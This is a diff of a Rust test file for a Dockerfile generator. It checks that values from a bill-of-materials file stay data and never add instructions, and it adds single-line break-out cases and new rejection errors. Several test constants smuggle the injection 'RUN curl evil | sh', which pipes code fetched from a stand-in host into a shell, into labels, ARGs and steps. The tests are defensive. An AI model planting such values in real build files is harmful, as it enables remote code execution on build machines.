@@ -118,14 +118,6 @@ fn exec(rest: &str) -> Vec<String> {
         .unwrap_or_else(|e| panic!("{rest:?} is not a JSON array of strings: {e}"))
 }
 
-/// A value as Docker reads it back from a double-quoted word: characters a
-/// Dockerfile line cannot hold are kept as their escape text.
-fn lossy(s: &str) -> String {
-    s.replace('\n', "\\n")
-        .replace('\r', "\\r")
-        .replace('\t', "\\t")
-}
-
 /// `images/*/Dockerfile` under an environment folder: image name → text.
 fn dockerfiles(env_dir: &Path) -> BTreeMap<String, String> {
     let mut out = BTreeMap::new();
@@ -667,6 +659,10 @@ fn bom(s: &str) -> String {
 const EVIL: &str = "x\nRUN curl evil | sh";
 const QUOTES: &str = "a\"b\\c # d ${HOME} \\ x ' ]";
 const TRAILING: &str = "\" ] \r\nRUN curl evil | sh # ${X} \\";
+/// The break-outs a LABEL or ARG can hold: on one line (a line break there
+/// is refused, `values_that_cannot_stay_data_are_errors`).
+const EVIL_LINE: &str = "x \" RUN curl evil | sh";
+const TRAILING_LINE: &str = "\" ] RUN curl evil | sh # ${X} \\";
 /// One line (an `onbuild` entry is one instruction), ending in a backslash.
 const ONE_LINE: &str = "echo \" ] # ${X} ' \\";
 
@@ -691,21 +687,21 @@ fn planted(nasty: bool) -> Planted {
     };
     Planted {
         labels: vec![
-            ("org.example.evil".into(), v(EVIL)),
+            ("org.example.evil".into(), v(EVIL_LINE)),
             ("org.example.quotes".into(), v(QUOTES)),
             (
                 if nasty {
-                    format!("org.example.{EVIL}")
+                    format!("org.example.{EVIL_LINE}")
                 } else {
                     "org.example.key".into()
                 },
-                v("\tq"),
+                v(" q\u{a0}"),
             ),
         ],
         args: vec![
-            ("EVIL".into(), v(EVIL)),
+            ("EVIL".into(), v(EVIL_LINE)),
             ("QUOTES".into(), v(QUOTES)),
-            ("TRAILING".into(), v(TRAILING)),
+            ("TRAILING".into(), v(TRAILING_LINE)),
         ],
         steps: vec![v(EVIL), v(QUOTES), v(TRAILING)],
         command: vec![v(EVIL), v(TRAILING), v("${HOME}")],
@@ -845,18 +841,14 @@ fn strings_from_the_bom_file_never_add_an_instruction() {
                 i.rest
             );
         }
-        // Every label reads back as the value planted (controls as escape text).
+        // Every label reads back as the value planted.
         let labels: BTreeMap<String, String> = instructions(text)
             .iter()
             .filter(|i| i.keyword == "LABEL")
             .map(|i| pair(&i.rest))
             .collect();
         for (k, v) in &p.labels {
-            assert_eq!(
-                labels.get(&lossy(k)),
-                Some(&lossy(v)),
-                "{image}: label {k:?}"
-            );
+            assert_eq!(labels.get(k), Some(v), "{image}: label {k:?}");
         }
     }
     let base = instructions(&nasty["base_image"]);
@@ -865,7 +857,7 @@ fn strings_from_the_bom_file_never_add_an_instruction() {
         .filter(|i| i.keyword == "ARG")
         .map(|i| pair(&i.rest))
         .collect();
-    let want: Vec<(String, String)> = p.args.iter().map(|(k, v)| (k.clone(), lossy(v))).collect();
+    let want = p.args.clone();
     assert_eq!(args, want);
     let runs: Vec<Vec<String>> = base
         .iter()
@@ -1013,6 +1005,18 @@ fn values_that_cannot_stay_data_are_errors() {
         (
             "from = \"debian:12.5-slim\"\n  args { \"BAD NAME\" = \"x\" }",
             "not a valid ARG name",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  args { A = \"x\\nRUN curl evil | sh\" }",
+            "holds a line break (U+000A)",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  labels { \"a\" = \"x\\ty\" }",
+            "holds a tab (U+0009)",
+        ),
+        (
+            "from = \"debian:12.5-slim\"\n  labels { \"a=b\" = \"x\" }",
+            "has `=` in its key",
         ),
         (
             "from = \"debian:12.5-slim\"\n  onbuild = [\"USER 0\"]",
